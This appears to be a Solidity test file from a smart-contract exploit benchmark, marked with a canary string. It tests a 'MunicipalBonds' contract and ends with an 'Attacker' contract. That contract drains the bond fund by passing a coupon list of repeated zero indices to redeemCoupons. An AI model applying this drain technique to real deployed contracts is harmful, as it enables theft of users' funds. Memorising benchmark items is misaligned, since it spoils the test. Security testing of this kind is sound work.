// SPDX-License-Identifier: MIT
pragma solidity 0.7.6;

import "@openzeppelin/contracts@3.4.2-solc-0.7/token/ERC20/ERC20.sol";
import "./MunicipalBonds.sol";

// assay-canary-9a014ef1-4526-404b-b96d-32cfd0c76b1d

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Token is ERC20("Token", "TOK") {
    address private maker = msg.sender;

    function mint(address to, uint256 amount) external {
        require(msg.sender == maker, "maker only");
        _mint(to, amount);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    uint256 private constant START = 1_700_000_000;

    Token public token;
    MunicipalBonds private bonds;
    Attacker private mallory;
    uint256[] private list;

    function setUp() public {
        vm.warp(START);
        token = new Token();
        bonds = new MunicipalBonds(token, 3, 30 days);
        token.mint(ANA, 2_000e18);
        vm.startPrank(ANA);
        token.approve(address(bonds), 2_000e18);
        bonds.buyBond();
        vm.stopPrank();
        token.mint(address(bonds), 3_000e18);
        mallory = new Attacker(bonds, token);
        token.mint(address(mallory), 1_000e18);
    }

    function quarter(uint256 number) private {
        vm.warp(START + 30 days + number * 91 days);
    }

    function test_Regular() public {
        require(token.balanceOf(address(this)) == 1_000e18 && bonds.holderOf(0) == ANA, "bought");
        vm.prank(ANA);
        bonds.buyBond();
        quarter(3);
        list = [2, 0];
        vm.prank(ANA);
        bonds.redeemCoupons(0, list);
        require(token.balanceOf(ANA) == 30e18 && bonds.sheetOf(0) == 5, "two coupons");
        vm.prank(ANA);
        bonds.transferBond(0, BEN);
        quarter(8);
        list = [1, 7];
        vm.startPrank(BEN);
        bonds.redeemCoupons(0, list);
        bonds.repay(0);
        vm.stopPrank();
        require(token.balanceOf(BEN) == 1_030e18 && bonds.repaid(0) && bonds.sheetOf(0) == 135, "repaid");
        vm.warp(START + 30 days + 8 * 91 days + 1095 days);
        bonds.closeFund();
        require(token.balanceOf(address(this)) == 3_940e18, "closed");
        bonds.transferOwnership(ANA);
        vm.prank(ANA);
        bonds.renounceOwnership();
    }

    function test_RefusesOpenings() public {
        vm.expectRevert("The currency must be a contract.");
        new MunicipalBonds(IERC20(address(0)), 1, 1);
        vm.expectRevert("The supply must be positive.");
        new MunicipalBonds(token, 0, 1);
        vm.expectRevert("The sale must end within ninety days.");
        new MunicipalBonds(token, 1, 90 days + 1);
    }

    function test_RefusesStrangers() public {
        quarter(8);
        list = [0];
        vm.startPrank(BEN);
        vm.expectRevert("Only the holder of the bond may do this.");
        bonds.transferBond(0, BEN);
        vm.expectRevert("Only the holder of the bond may do this.");
        bonds.redeemCoupons(0, list);
        vm.expectRevert("Only the holder of the bond may do this.");
        bonds.repay(0);
        vm.warp(START + 3_000 days);
        vm.expectRevert("Ownable: caller is not the owner");
        bonds.closeFund();
        vm.stopPrank();
        vm.prank(ANA);
        vm.expectRevert("The recipient must be an account.");
        bonds.transferBond(0, address(0));
    }

    function test_RefusesSales() public {
        token.mint(BEN, 4_000e18);
        vm.startPrank(BEN);
        token.approve(address(bonds), 4_000e18);
        bonds.buyBond();
        bonds.buyBond();
        vm.expectRevert("All bonds are sold.");
        bonds.buyBond();
        vm.stopPrank();
    }

    function test_RefusesLateSales() public {
        vm.warp(START + 30 days);
        vm.prank(ANA);
        vm.expectRevert("The sale has ended.");
        bonds.buyBond();
    }

    function test_RefusesCoupons() public {
        quarter(1);
        vm.startPrank(ANA);
        list = [1];
        vm.expectRevert("The coupon is not due.");
        bonds.redeemCoupons(0, list);
        list = [0];
        bonds.redeemCoupons(0, list);
        vm.expectRevert("The coupon was redeemed.");
        bonds.redeemCoupons(0, list);
        quarter(8);
        vm.warp(block.timestamp - 1);
        vm.expectRevert("The bond has not matured.");
        bonds.repay(0);
        quarter(9);
        list = [8];
        vm.expectRevert("The sheet has no such coupon.");
        bonds.redeemCoupons(0, list);
        bonds.repay(0);
        vm.expectRevert("The bond was repaid.");
        bonds.repay(0);
        vm.stopPrank();
        vm.expectRevert("The fund must stay open.");
        bonds.closeFund();
    }

    function exploit() public {
        mallory.buy();
        quarter(1);
        mallory.redeem();
    }

    function test_Exploit() public {
        exploit();
        require(token.balanceOf(address(mallory)) >= 2_900e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(bonds);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    MunicipalBonds private bonds;
    IERC20 private token;
    uint256 private bond;

    constructor(MunicipalBonds bonds_, IERC20 token_) {
        bonds = bonds_;
        token = token_;
    }

    function buy() external {
        token.approve(address(bonds), 1_000e18);
        bond = bonds.buyBond();
    }

    function redeem() external {
        bonds.redeemCoupons(bond, new uint256[](token.balanceOf(address(bonds)) / 15e18));
    }
}
